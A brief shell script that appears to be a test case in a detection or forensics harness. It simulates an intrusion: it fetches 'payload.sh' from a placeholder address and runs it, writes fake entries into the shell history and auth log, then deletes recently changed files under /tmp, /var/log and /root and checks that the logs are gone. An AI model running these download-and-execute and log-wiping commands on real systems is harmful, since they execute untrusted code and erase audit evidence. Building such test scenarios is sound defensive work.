#!/bin/sh
. /opt/case/case.sh

touch /tmp/.mark; sleep 1
wget -q -O /tmp/.a http://203.0.113.10/payload.sh && chmod 755 /tmp/.a && /tmp/.a; mv /tmp/reached /run/reached
wget -q -O /var/tmp/scan http://203.0.113.10/payload.sh; echo 'wget' >>/root/.bash_history; echo 'session opened' >>/var/log/auth.log
find /tmp /var/tmp /root /var/log /dev/shm -xdev -type f -newer /tmp/.mark -exec rm -f {} +
rm /tmp/.mark
test ! -e /var/log/auth.log && test ! -e /root/.bash_history
took_place
